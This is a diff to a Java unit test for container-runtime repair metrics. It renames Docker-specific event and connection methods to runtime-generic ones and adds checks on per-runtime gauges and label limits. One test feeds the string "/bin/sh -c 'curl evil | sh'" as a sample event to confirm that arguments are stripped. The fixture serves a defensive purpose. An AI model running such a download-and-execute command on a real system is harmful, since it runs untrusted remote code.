@@ -208,15 +208,34 @@ class MicrometerRepairMetricsTest {
 
     @Test
     void dockerActionsLoseTheirArgumentsAndAreCapped() {
-        metrics.dockerEvent("exec_start: /bin/sh -c 'curl evil | sh'");
-        metrics.dockerEvent("exec_start: nvidia-smi");
+        metrics.runtimeEvent("docker", "exec_start: /bin/sh -c 'curl evil | sh'");
+        metrics.runtimeEvent("docker", "exec_start: nvidia-smi");
         for (int i = 0; i < 100; i++) {
-            metrics.dockerEvent("action" + i);
+            metrics.runtimeEvent("docker", "action" + i);
         }
 
         ScrapedText scraped = scrape();
         assertThat(scraped.value("driver_alias_docker_events_total", Map.of("action", "exec_start"))).isEqualTo(2);
         assertThat(scraped.samples("driver_alias_docker_events_total")).hasSize(MicrometerRepairMetrics.ACTION_LIMIT + 1);
+        assertThat(scraped.value("driver_alias_runtime_events_total", Map.of("runtime", "docker", "action", "exec_start")))
+                .isEqualTo(2);
+    }
+
+    @Test
+    void eachRuntimeHasItsOwnUpSeriesAndDockersOldSeriesFollowsDocker() {
+        metrics.runtimeConnected("docker", true);
+        metrics.runtimeConnected("containerd", false);
+        metrics.runtimeEvent("containerd", "/tasks/create");
+        metrics.runtimeConnected("made-up\u001b", true);
+
+        ScrapedText scraped = scrape();
+        assertThat(scraped.value("driver_alias_runtime_up", Map.of("runtime", "docker"))).isEqualTo(1);
+        assertThat(scraped.value("driver_alias_runtime_up", Map.of("runtime", "containerd"))).isEqualTo(0);
+        assertThat(scraped.value("driver_alias_docker_up", Map.of())).isEqualTo(1);
+        assertThat(scraped.value("driver_alias_runtime_events_total", Map.of("runtime", "containerd",
+                "action", "/tasks/create"))).isEqualTo(1);
+        assertThat(scraped.samples("driver_alias_runtime_up")).as("no runtime label from outside the fixed set")
+                .hasSize(3);
     }
 
     @Test
@@ -314,8 +333,8 @@ class MicrometerRepairMetricsTest {
         metrics.resyncInterval(Duration.ofSeconds(60));
         metrics.repairDuration(Duration.ofMillis(12));
         metrics.exposure(Duration.ofMillis(40));
-        metrics.dockerConnected(true);
-        metrics.dockerEvent("start");
+        metrics.runtimeConnected("docker", true);
+        metrics.runtimeEvent("docker", "start");
         metrics.reconcileSucceeded(Instant.ofEpochMilli(1_700_000_000_500L));
         metrics.driverVersion("535.104.05");
         metrics.kubernetesEvent("sent");
